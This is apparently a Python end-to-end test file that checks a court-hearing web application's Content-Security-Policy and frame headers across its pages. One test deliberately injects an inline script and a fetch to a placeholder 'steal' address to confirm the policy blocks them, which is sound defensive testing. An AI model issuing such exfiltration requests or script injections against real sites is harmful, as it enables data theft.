"""Every page under the strict Content-Security-Policy, in a real browser: the policy
arrives with the page, and no page needs anything it forbids (a refusal would break the page
silently, so the browser's console is read for one). The watch itself is checked by a
script the policy must refuse.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from server.auth.bootstrap import DEMO_STAFF_FILE, read_passwords
from tests.e2e.harness import Server, watch_for_page_errors
from tests.e2e.hearing_page import WAIT_MS
from tests.e2e.scheduling import Scheduler

pytestmark = pytest.mark.e2e


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="en-GB")
    try:
        yield context.new_page()
    finally:
        context.close()


def _log_in_as_clerk(page: Any, server: Server) -> None:
    password = read_passwords(server.data_dir / DEMO_STAFF_FILE)["clerk"]
    page.goto(f"{server.url}/login")
    page.get_by_label("Username").fill("clerk")
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{server.url}/console", timeout=WAIT_MS)


def test_every_page_loads_under_the_policy_without_a_refusal(
    page: Any, server: Server, own_hearings: Scheduler
) -> None:
    hearing = own_hearings.hearing("State v. Policy", {"observer": "Olga Observer"})
    problems: list[str] = []
    watch_for_page_errors(page, problems)
    _log_in_as_clerk(page, server)
    pages = [
        "/",
        "/login",
        "/console",
        "/audit",
        "/archive",
        f"/archive/hearings/{hearing.id}",
        f"/hearings/{hearing.id}/protocol",
        # The join page connects over Socket.IO (a WebSocket to the page's own origin).
        server.join_url_for(hearing.tokens["observer"]).removeprefix(server.url),
    ]
    for path in pages:
        response = page.goto(f"{server.url}{path}")
        assert response is not None, path
        policy = response.headers["content-security-policy"]
        assert "script-src 'self';" in policy and "unsafe-inline" not in policy, path
        assert f"connect-src 'self' {server.url.replace('http', 'ws', 1)};" in policy, path
        assert response.headers["x-frame-options"] == "DENY", path
        page.wait_for_load_state("load", timeout=WAIT_MS)
        page.wait_for_timeout(1000)  # the page's scripts fetch and connect
    # The observer's page got through Socket.IO: its roster (hidden while waiting) has them.
    roster = page.locator(".roster__name", has_text="Olga Observer")
    roster.first.wait_for(state="attached", timeout=WAIT_MS)

    assert not problems, "\n".join(problems)


def test_the_watch_sees_what_the_policy_refuses(page: Any, server: Server) -> None:
    problems: list[str] = []
    watch_for_page_errors(page, problems)
    page.goto(f"{server.url}/")

    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.__inline = true";
          document.body.append(script);
          fetch("http://203.0.113.1/steal").catch(() => {});
        }"""
    )
    page.wait_for_timeout(500)

    assert page.evaluate("() => window.__inline === undefined")
    assert any("script" in p for p in problems), problems
    assert any("connect" in p.lower() for p in problems), problems
